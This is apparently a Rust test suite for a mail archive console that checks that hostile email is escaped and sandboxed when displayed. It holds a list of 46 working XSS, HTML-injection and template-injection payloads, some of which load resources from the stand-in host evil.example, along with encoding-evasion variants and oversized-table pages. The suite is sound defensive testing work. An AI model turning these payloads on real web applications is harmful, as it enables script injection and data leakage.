//! Mail that is made to break out of the pages that show it: nothing of it runs, loads anything, or looks like ours.

use std::{fs, io::Write, net::TcpListener};

use base64::{
    Engine,
    engine::general_purpose::{STANDARD, STANDARD_NO_PAD},
};
use serde_json::json;

use crate::{
    browser::{Browser, is_whole},
    people::{log_in, submit},
    site::Site,
    support::{PATIENCE, appliance::PROFILE, wait_for},
};

/// What is tried, in a page or in any text. What would run sets `evil` or asks evil.example for something.
const TRIES: [&str; 46] = [
    "<script>window.evil=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "</title><script>evil=1</script>",
    "</pre></div></main><script>evil=1</script>",
    "\"><script>evil=1</script>",
    "' onmouseover='evil=1",
    "\" onfocus=\"evil=1\" autofocus=\"",
    "<img src=x onerror=evil=1>",
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<img srcset='https://evil.example/set.png 1x'>",
    "<picture><source srcset=https://evil.example/p.png><img></picture>",
    "<svg onload=evil=1>",
    "<svg><script>evil=1</script></svg>",
    "<svg><image href=https://evil.example/i.svg /></svg>",
    "<svg><animate onbegin=evil=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=evil=1&gt;\">",
    "<body onload=evil=1 background=https://evil.example/b.png>",
    "<iframe src=https://evil.example/frame></iframe>",
    "<iframe srcdoc='<script>parent.evil=1</script>'></iframe>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<link rel=prefetch href=https://evil.example/prefetch>",
    "<style>@import url(https://evil.example/i.css); body { background: url(https://evil.example/bg) }</style>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/st)\">evil</p>",
    "<div style='background-image:url(//evil.example/d)'>evil",
    "<a href=javascript:evil=1 id=js>evil</a>",
    "<a href=\"&#106;avascript:evil=1\">evil</a>",
    "<a href='data:text/html,<script>opener.evil=1</script>'>evil</a>",
    "<a href=\" java\tscript:evil=1\">evil</a>",
    "<a href=https://evil.example/link ping=https://evil.example/ping>evil</a>",
    "<form action=https://evil.example/form><input name=password autofocus><button>evil</button></form>",
    "<form action=/console/log-out method=post><button>evil</button></form>",
    "<input type=image src=https://evil.example/in.png formaction=https://evil.example/x>",
    "<video src=https://evil.example/v poster=https://evil.example/poster autoplay onerror=evil=1></video>",
    "<audio src=https://evil.example/a autoplay></audio>",
    "<table background=https://evil.example/t><td background=https://evil.example/td>evil",
    "<details open ontoggle=evil=1>evil",
    "<marquee onstart=evil=1>evil</marquee>",
    "<template><script>evil=1</script></template><noscript><p title=\"</noscript><img src=x onerror=evil=1>\">",
    "<textarea></textarea><script>evil=1</script>",
    "<!--><script>evil=1</script>-->",
    "\u{202e}evil\u{2066}live\u{202e} \u{200b}\u{feff}evil\u{0}",
    "{{constructor.constructor('evil=1')()}} ${evil=1} <%= evil %>",
    "<a target=_top href=https://evil.example/top>evil</a><p id=main class=notice>evil",
];

/// Where it stands: for each place a message with it there.
const PLACES: usize = 7;
const IN_PAGE: usize = 5;

/// Tags that no page of ours has.
const FORBIDDEN: [&str; 8] = [
    "style",
    "base",
    "object",
    "embed",
    "svg",
    "meta http-equiv",
    "input name=password",
    "form action=https",
];

fn mail(attempt: &str, place: usize, number: usize) -> Vec<u8> {
    let word = |at: usize| {
        if at == place {
            attempt.replace(['\r', '\n', '\0'], " ")
        } else {
            format!("plain{at}")
        }
    };
    let quoted = |text: String| text.replace('\\', "").replace('"', "\\\"");
    let page = if place == IN_PAGE { attempt } else { "<p>Hello</p>" };
    let text = if place == 4 { attempt } else { "Hello" };
    format!(
        "From: \"{}\" <a@example.org>\r\nTo: \"{}\" <jane@example.com>\r\nSubject: {}\r\nX-Evil: {}\r\nMessage-ID: <{number}@x>\r\n\
         MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/alternative; \
         boundary=c\r\n\r\n--c\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n--c\r\nContent-Type: text/html; \
         charset=utf-8\r\n\r\n{page}\r\n--c--\r\n--b\r\nContent-Type: message/rfc822; name=\"{}\"\r\n\r\nFrom: {}\r\nSubject: \
         {}\r\n\r\n{}\r\n--b--\r\n",
        quoted(word(0)),
        quoted(word(1)),
        word(2),
        word(2),
        quoted(word(3)),
        word(6),
        word(6),
        word(6),
    )
    .into_bytes()
}

/// The same tries as they look in odd encodings, and pages that are too much: what stands behind `text/html; `.
fn odd_pages() -> Vec<Vec<u8>> {
    let tries = [
        "<script>evil=1</script>",
        "<img src=x onerror=evil=1>",
        "<svg onload=evil=1>",
        "<a href=javascript:evil=1>evil</a>",
    ];
    let page = |charset: &str, transfer: &str, body: &[u8]| {
        let head = format!("charset={charset}\r\nContent-Transfer-Encoding: {transfer}\r\n\r\n");
        [head.as_bytes(), body].concat()
    };
    let utf_16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>();
    let utf_7 = |text: &str| {
        let word = |letter: char| {
            let bytes: Vec<u8> = letter.to_string().encode_utf16().flat_map(u16::to_be_bytes).collect();
            format!("+{}-", STANDARD_NO_PAD.encode(bytes))
        };
        text.chars()
            .map(|letter| {
                if letter.is_alphanumeric() {
                    letter.to_string()
                } else {
                    word(letter)
                }
            })
            .collect::<String>()
    };
    let overlong = |text: &str| {
        let bytes = text.bytes().map(|byte| match byte {
            b'<' | b'>' | b'"' => vec![0xc0 | byte >> 6, 0x80 | byte & 0x3f],
            other => vec![other],
        });
        bytes.flatten().collect::<Vec<u8>>()
    };
    let quoted = |text: &str| text.bytes().map(|byte| format!("={byte:02X}")).collect::<String>();
    let mut pages = Vec::new();
    for attempt in tries {
        let base64 = |bytes: &[u8]| STANDARD.encode(bytes).into_bytes();
        pages.push(page("utf-7", "7bit", utf_7(attempt).as_bytes()));
        pages.push(page("unicode-1-1-utf-7", "quoted-printable", utf_7(attempt).as_bytes()));
        pages.push(page("utf-16le", "base64", &base64(&utf_16(attempt))));
        pages.push(page("utf-8", "base64", &base64(&utf_16(attempt))));
        pages.push(page("utf-8", "base64", &base64(attempt.as_bytes())));
        pages.push(page("utf-8", "quoted-printable", quoted(attempt).as_bytes()));
        pages.push(page("utf-8", "8bit", &overlong(attempt)));
        pages.push(page("x-nobody-knows", "8bit", attempt.as_bytes()));
        pages.push(page(
            "iso-2022-jp",
            "7bit",
            format!("\u{1b}$B\u{1b}(B{attempt}\u{1b}$B").as_bytes(),
        ));
        pages.push(page(
            "hz-gb-2312",
            "7bit",
            format!("~{{{attempt}~}}{attempt}").as_bytes(),
        ));
        pages.push(page("ebcdic-cp-us", "binary", attempt.as_bytes()));
        pages.push(page("utf-8", "x-uuencode", attempt.as_bytes()));
        let with_nul: Vec<u8> = attempt.bytes().flat_map(|byte| [byte, 0]).collect();
        pages.push(page("us-ascii", "binary", &with_nul));
    }
    let cells = "<td width=9999>evil".repeat(20_000);
    pages.push(page(
        "utf-8",
        "8bit",
        format!("<table width=99999 border=9>{cells}</table>").as_bytes(),
    ));
    let rows = "<tr><td>evil".repeat(20_000);
    pages.push(page("utf-8", "8bit", format!("<table>{rows}</table>").as_bytes()));
    pages.push(page("utf-8", "8bit", "<table><tr><td>evil".repeat(3_000).as_bytes()));
    pages.push(page("utf-8", "8bit", "<div>".repeat(30_000).as_bytes()));
    let colspan = "<table><tr><td colspan=99999999 rowspan=99999999 height=99999999>evil</table>";
    pages.push(page("utf-8", "8bit", colspan.as_bytes()));
    pages.push(page("utf-8", "8bit", "evil".repeat(100_000).as_bytes()));
    pages
}

/// A word of a header in an encoding of its own.
fn encoded_words(attempt: &str) -> [String; 3] {
    let quoted: String = attempt.bytes().map(|byte| format!("={byte:02X}")).collect();
    [
        format!("=?utf-8?B?{}?=", STANDARD.encode(attempt)),
        format!("=?iso-8859-1?Q?{quoted}?="),
        format!("=?utf-7?Q?{quoted}?="),
    ]
}

fn site() -> (Site, usize) {
    let site = Site::new("", &[]);
    site.add("jane", "user", &["jane"]);
    let folder = site.path("hostile");
    fs::create_dir(&folder).expect("a folder");
    let mut number = 0;
    for attempt in TRIES {
        for place in 0..PLACES {
            number += 1;
            fs::write(folder.join(format!("{number:04}.eml")), mail(attempt, place, number)).expect("a file");
        }
    }
    let whole = mail("<p>Hello</p>", IN_PAGE, 0);
    let at = memchr::memmem::find(&whole, b"charset=utf-8\r\n\r\n<p>").expect("the page");
    for page in odd_pages() {
        number += 1;
        let mail = [
            &whole[..at],
            &page[..],
            &whole[at + "charset=utf-8\r\n\r\n<p>Hello</p>".len()..],
        ]
        .concat();
        fs::write(folder.join(format!("{number:04}.eml")), mail).expect("a file");
    }
    for attempt in [TRIES[0], TRIES[7], TRIES[11]] {
        for word in encoded_words(attempt) {
            number += 1;
            let text = String::from_utf8(mail("Hello", 9, number)).expect("text");
            let text = text
                .replace("plain0", &word)
                .replace("plain2", &word)
                .replace("plain3", &word);
            fs::write(folder.join(format!("{number:04}.eml")), text).expect("a file");
        }
    }
    site.appliance
        .done(&["import", "--profile", PROFILE, folder.to_str().expect("a name")]);
    site.indexed();
    (site, number)
}

/// Tags that bear something of the mail: none but links that can be followed, images that are only named, and what stands
/// in the value of a field of ours.
fn suspects(page: &str) -> Vec<&str> {
    let tags = page.split('<').skip(1);
    let tags = tags.filter_map(|rest| rest.split_once('>').map(|(tag, _)| tag));
    let link = |tag: &str| {
        let to = tag.split_once("href=\"").and_then(|(_, rest)| rest.split('"').next());
        let to = to.unwrap_or_default();
        let leads = to.starts_with("https://evil.example/") || to.starts_with("/console/");
        tag.starts_with("a ") && leads && !tag.contains(" on")
    };
    let image = |tag: &str| tag.starts_with("img data-src=\"https://evil.example/");
    let field = |tag: &str| {
        let outside_of_values: String = tag.split('"').step_by(2).collect();
        let is_ours = tag.starts_with("form ") && tag.contains(" action=\"/console/") || tag.starts_with("input ");
        is_ours && !outside_of_values.to_lowercase().contains("evil")
    };
    tags.filter(|tag| tag.to_lowercase().contains("evil") && !link(tag) && !image(tag) && !field(tag))
        .collect()
}

#[test]
fn nothing_of_hostile_mail_is_markup_in_what_is_served() {
    let (site, all) = site();
    assert!(all >= 300, "{all}");
    let (jane, _) = log_in(&site, "jane", "");
    let mut pages = 0;
    for id in 1..=all {
        for below in [
            "",
            "?view=text",
            "?outside=1",
            "/body",
            "/print",
            "/headers",
            "/nested/3",
        ] {
            let path = format!("/console/mail/{id}{below}");
            let reply = jane.get(&path).expect(200);
            let page = reply.text();
            assert!(suspects(&page).is_empty(), "{path}: {:?}\n{page}", suspects(&page));
            let is_shut_in = ["/body", "/print"].contains(&below);
            let scripts = if is_shut_in { 0 } else { 1 };
            assert_eq!(page.matches("<script").count(), scripts, "{path}: {page}");
            let tags = || page.split('<').skip(1).filter_map(|rest| rest.split('>').next());
            let is_forbidden =
                |tag: &&str| tag.contains(" style=") || FORBIDDEN.iter().any(|name| tag.starts_with(name));
            assert_eq!(tags().find(is_forbidden), None, "{path}: {page}");
            let policy = reply.field("content-security-policy");
            let shut_in = "default-src 'none'; style-src 'self'; img-src data:; base-uri 'none'; form-action 'none'; \
                           frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox";
            if is_shut_in {
                assert_eq!(policy, shut_in);
            } else {
                assert!(policy.starts_with("default-src 'none'; style-src 'self'; script-src 'self'; img-src 'self';"));
            }
            pages += 1;
        }
        let beside = format!("/console/archives/jane?open={id}");
        let page = jane.get(&beside).expect(200).text();
        assert!(suspects(&page).is_empty(), "{beside}: {:?}", suspects(&page));
        assert_eq!(page.matches("<script").count(), 1, "{beside}");
        let source = jane.get(&format!("/console/mail/{id}/source")).expect(200);
        assert_eq!(source.field("content-type"), "text/plain; charset=utf-8");
        assert!(source.field("content-security-policy").ends_with("sandbox"));
        let file = jane.get(&format!("/console/mail/{id}/parts/3")).expect(200);
        assert_eq!(file.field("content-type"), "application/octet-stream");
        assert!(file.field("content-disposition").starts_with("attachment"));
    }
    for list in [
        "/console/mail",
        "/console/mail?q=%3Cscript%3Eevil%3D1",
        "/console/archives/jane",
    ] {
        let page = jane.get(list).text();
        assert!(suspects(&page).is_empty(), "{list}: {:?}", suspects(&page));
    }
    assert_eq!(pages, all * 7);
}

#[test]
fn nothing_of_hostile_mail_runs_or_is_asked_for_in_a_browser() {
    let (site, all) = site();
    let browser = Browser::new(&site);
    browser.log_in("jane", "/console/mail");
    browser.asked_for();
    let same = |path: &str| {
        browser.open(path);
        assert_eq!(browser.at(), path);
        let evil = browser.run(
            "return [window.evil ?? null, document.title.length > 0, !!document.querySelector('main h1')]",
            &serde_json::json!([]),
        );
        assert_eq!(evil, serde_json::json!([null, true, true]), "{path}");
    };
    // All of them are looked at as they are served; here some of each, at another place each time.
    for id in (1..=all).step_by(if is_whole() { 1 } else { PLACES + 1 }) {
        let more = ["?view=text", "/nested/3"];
        for below in [""].into_iter().chain(more.get(id % 4).copied()) {
            same(&format!("/console/mail/{id}{below}"));
        }
        if id % 4 == 3 {
            same(&format!("/console/archives/jane?open={id}"));
        }
    }
    // Tables and words beyond all measure stay in the frame that is theirs.
    browser.is_wide(360, 740);
    for id in TRIES.len() * PLACES + 1..=all {
        same(&format!("/console/mail/{id}"));
        let overflow = browser.run(
            "return document.documentElement.scrollWidth - innerWidth",
            &serde_json::json!([]),
        );
        assert!(overflow.as_i64().expect("a number") <= 0, "{id}: {overflow}");
    }
    browser.is_wide(1920, 1080);
    same("/console/mail");
    same("/console/archives/jane");
    assert_eq!(browser.asked_elsewhere(), Vec::<String>::new());
    // Where somebody asks for them, images are loaded, and nothing else is.
    let with_pixel = TRIES.iter().position(|attempt| attempt.contains("pixel.gif"));
    let number = with_pixel.expect("it") * PLACES + IN_PAGE + 1;
    browser.open(&format!("/console/mail?q=message-id%3A{number}%40x"));
    browser.click("[data-row]");
    browser.waits_for("the message", |browser| browser.has("iframe"));
    assert!(
        browser.text("main").contains("1 image lies elsewhere"),
        "{}",
        browser.text("main")
    );
    browser.click(".notice a");
    let mut asked = Vec::new();
    browser.waits_for("the image", |browser| {
        asked.extend(browser.asked_elsewhere());
        !asked.is_empty()
    });
    assert!(asked.iter().all(|asked| asked.contains("evil.example")), "{asked:?}");
}

/// A server that turns everybody away, in these words.
fn turning_away(words: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("its address").port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            // Who does not wait for it has gone.
            let _ = write!(stream, "* BYE {words}\r\n");
        }
    });
    port
}

#[test]
fn names_and_words_of_servers_are_text_on_the_pages_of_administrators() {
    const WORDS: &str = "<script>evil=1</script><img src=https://evil.example/bye onerror=evil=1>";
    let port = turning_away(WORDS);
    let profile = format!(
        "[[profile]]\nname = \"company\"\n[profile.server]\naccess = \"imap\"\nhost = \"127.0.0.1\"\nport = {port}\n\
         username = \"all\"\npassword = \"x\"\n[profile.recipients]\nlocal_domains = [\"example.com\"]\n"
    );
    let site = Site::of_profile("", &profile, &[]);
    site.add("anna", "administrator", &[]);
    let (anna, _) = log_in(&site, "anna", "");
    let made = TRIES.iter().enumerate().filter(|(number, name)| {
        let address = format!("u{number}@example.com");
        let fields = [("name", **name), ("addresses", &*address)];
        submit(&anna, "/console/people/users", &fields).status == 303
    });
    // Some have what no name may have.
    assert!(made.count() > TRIES.len() - 5);
    for attempt in [TRIES[0], TRIES[7], TRIES[28]] {
        let local: String = attempt.chars().filter(|letter| !"\"\\ ".contains(*letter)).collect();
        site.import(&format!(
            "Delivered-To: \"{local}\"@example.com\r\nReceived: from x by y; Mon, 1 Jan 2024 10:00:00 +0000\r\n\
             From: a@example.org\r\nTo: \"{local}\"@example.com\r\nSubject: x\r\n\r\nx\r\n"
        ));
    }
    submit(&anna, "/console/profiles/company/run", &[]).expect(303);
    let ended = wait_for(PATIENCE, || {
        anna.get("/console/runs?state=failed").text().contains("/console/runs/")
    });
    assert!(ended, "{}", anna.get("/console/runs").text());
    let page = anna.get("/console/runs?state=failed").text();
    let (_, run) = page.split_once("href=\"/console/runs/").expect("a run");
    let run = format!("/console/runs/{}", run.split('"').next().expect("its number"));
    assert!(
        anna.get(&run).text().contains("&lt;script&gt;evil=1&lt;/script&gt;"),
        "{run}"
    );
    let pages = [
        "/console/overview",
        "/console/people",
        "/console/people?q=evil",
        "/console/archives",
        "/console/unknown",
        "/console/runs",
        "/console/audit",
        "/console/archive-mail",
        &run,
    ];
    for path in pages {
        let page = anna.get(path).text();
        assert!(suspects(&page).is_empty(), "{path}: {:?}", suspects(&page));
        assert_eq!(page.matches("<script").count(), 1, "{path}");
    }
    for browser in [Browser::new(&site), Browser::german(&site)] {
        browser.log_in("anna", "/console/overview");
        browser.asked_for();
        for path in pages {
            browser.open(path);
            let evil = browser.run(
                "return [window.evil ?? null, !!document.querySelector('main h1')]",
                &json!([]),
            );
            assert_eq!(evil, json!([null, true]), "{path}");
        }
        assert_eq!(browser.asked_elsewhere(), Vec::<String>::new());
    }
}
